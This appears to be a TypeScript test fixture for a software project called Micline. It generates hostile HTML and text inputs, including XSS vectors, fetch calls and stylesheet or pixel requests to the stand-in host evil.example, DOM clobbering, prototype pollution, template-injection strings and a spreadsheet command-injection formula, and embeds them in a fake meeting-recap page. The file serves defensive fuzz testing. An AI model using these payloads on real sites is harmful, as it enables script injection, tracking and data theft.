/** Markup and words that try to run script, to make requests or to take the place of Micline's own elements. */
import { existsSync, readFileSync } from 'node:fs'

const SHARED = new URL('../../../../shared/fuzz/hostile-html.json', import.meta.url)

/** What script would run. `hit` does not exist: running it is an error that is noticed. */
const SCRIPTS = ['hit()', "fetch('https://evil.example/hit')", "document.body.innerHTML='spoofed'"]

const MARKUP = [
  '<script>SCRIPT</script>',
  '<script type="module">SCRIPT</script>',
  '<img src=x onerror="SCRIPT">',
  '<svg onload="SCRIPT"></svg>',
  '<svg><script>SCRIPT</script></svg>',
  '<svg><a xlink:href="javascript:SCRIPT"><text>draft-quill-loom-knots</text></a></svg>',
  '<iframe srcdoc="<script>parent.SCRIPT</script>"></iframe>',
  '<a href="javascript:SCRIPT">draft-quill-loom-knots</a>',
  '<a href="data:text/html,<script>SCRIPT</script>">RFC 99991</a>',
  '<a href=" &#106;avascript:SCRIPT">minutes</a>',
  '<math><mtext></form><form><mglyph><style></math><img src onerror="SCRIPT">',
  '<details open ontoggle="SCRIPT"><summary>ACTION: open</summary></details>',
  '<input autofocus onfocus="SCRIPT">',
  '<object data="javascript:SCRIPT"></object>',
  '<template><img src=x onerror="SCRIPT"></template>',
  '<noscript><p title="</noscript><img src=x onerror=SCRIPT>"></noscript>',
  '<form action="javascript:SCRIPT"><button>Save</button></form>',
  '<video><source onerror="SCRIPT"></video>',
  '<li onmouseover="SCRIPT"><b>Ada Quill</b> (<i onclick="SCRIPT">Knots</i>): agreed to adopt</li>',
]

const STILL = [
  '<style>@import "https://evil.example/a.css"; * { background: url(https://evil.example/b) }</style>',
  '<link rel=stylesheet href="https://evil.example/c.css"><link rel=prefetch href="https://evil.example/d">',
  '<meta http-equiv=refresh content="9;url=https://evil.example/e"><base href="https://evil.example/">',
  '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2x.png 2x" alt="Chair: consensus">',
  '<div id=root class="page-actions"><button class="primary">Save</button></div>',
  '<form id=body name=documentElement><input name=textContent><input name=childNodes><input name=attributes></form>',
  '<a id=browser></a><a id=browser name=runtime></a><img name=querySelector><img name=URL><img name=title>',
  '<p style="position:fixed;inset:0;z-index:9999">Saved</p>',
  `<p title="${'x'.repeat(1_000_000)}">A megabyte in an attribute</p>`,
  `<p>${'<b>'.repeat(3000)}deep</p>`,
  '<script type="application/ld+json">{"@type":"Article","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}},"headline":{"toString":"x"},"author":[{"name":{"__proto__":[]}}],"datePublished":[[]]}</script>',
]

/** Used as words too: as a title, a name, an affiliation. */
const WORDS = [
  '"><img src=x onerror=hit()>',
  "'-hit()-'",
  '{{constructor.constructor("hit()")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: words that look like a template
  '${hit()}',
  '<%= hit() %>',
  '#{hit()}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  'javascript:hit()',
  '[click](javascript:hit())',
  '![pixel](https://evil.example/pixel)',
  '[x]: javascript:hit() "RFC 99991"',
  '<https://evil.example/auto>',
  '```html\n<script>hit()</script>\n```',
  '</script><script>hit()</script>',
  '</textarea></title></style><img src=x onerror=hit()>',
  '=HYPERLINK("https://evil.example","click")',
  '@SUM(1+1)*cmd|"/C calc"!A0',
  '\u202egnp.exe \u2066bidi\u2069',
  'Saved\u0000\u0007\u001b[31m',
  '&lt;img src=x onerror=hit()&gt;',
  '%3Cscript%3Ehit()%3C/script%3E',
  'Ada Quill\u200b\u200d\ufeff',
  ']]><x/><![CDATA[',
]

interface HostileInput {
  readonly words: string
  /** Is it put on the page as markup, or as words that only look like it? */
  readonly as: 'markup' | 'words'
}

/** Each payload as markup and as words: the project's own, and those of ../shared/fuzz where it is at hand. */
export function hostileInputs(): HostileInput[] {
  const own = [
    ...MARKUP.flatMap((markup) => SCRIPTS.map((script) => markup.replaceAll('SCRIPT', script))),
    ...STILL,
    ...WORDS,
  ]
  const shared = existsSync(SHARED)
    ? (JSON.parse(readFileSync(SHARED, 'utf8')) as { html: string }[]).map(({ html }) => html)
    : []
  if (!shared.length)
    console.log('The shared payloads (../shared/fuzz/hostile-html.json) are not here: only our own are used.')
  return [...own, ...shared].flatMap((words) => [
    { words, as: 'markup' as const },
    { words, as: 'words' as const },
  ])
}

const escapeHtml = (words: string) =>
  words.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')

/** Ends whatever a payload has left open, so that the next one counts. */
const CLOSE =
  '</textarea></style></script></title></noscript></template></select></option></math></svg></a></table>--></div>'

/** A post about a meeting, with the inputs in its title, its names, its statements and its markup. */
export function hostilePage(inputs: readonly HostileInput[], number: number): string {
  const words = inputs
    .filter(({ as }) => as === 'words')
    .map((input) => escapeHtml(input.words.slice(0, 2000)))
  const markup = inputs.filter(({ as }) => as === 'markup').map((input) => input.words)
  const said = words.map(
    (name, index) => `<h3>${name}</h3>
      <p><strong>Ada ${name} Quill${index}</strong> (${name} Ltd) said that ${name} must change. The group agreed to adopt draft-quill-loom-knots-07: ${name}.</p>
      <ul><li>ACTION: Bo Spindle to answer ${name} by Friday.</li><li>There was consensus on ${name}.</li></ul><pre>${name}</pre>`,
  )
  return `<!doctype html><html lang="en"><head><title>${words[0] ?? ''} IETF 140 recap ${number}</title>
    <meta name="author" content="${words[0] ?? ''}"><meta property="og:site_name" content="${words[1] ?? ''}"></head>
    <body><article><h1>${words[0] ?? ''} IETF 140 recap ${number}</h1>
    <p>IETF 140 took place in Turku from 1 to 6 February 2031. The LOOM working group met to discuss RFC 99991 and its drafts.</p>
    ${said.join('\n')}
    ${markup.map((payload) => `<div>${payload}${CLOSE}</div>`).join('\n')}
    <p>The chairs thanked everyone at IETF 140.</p></article></body></html>`
}
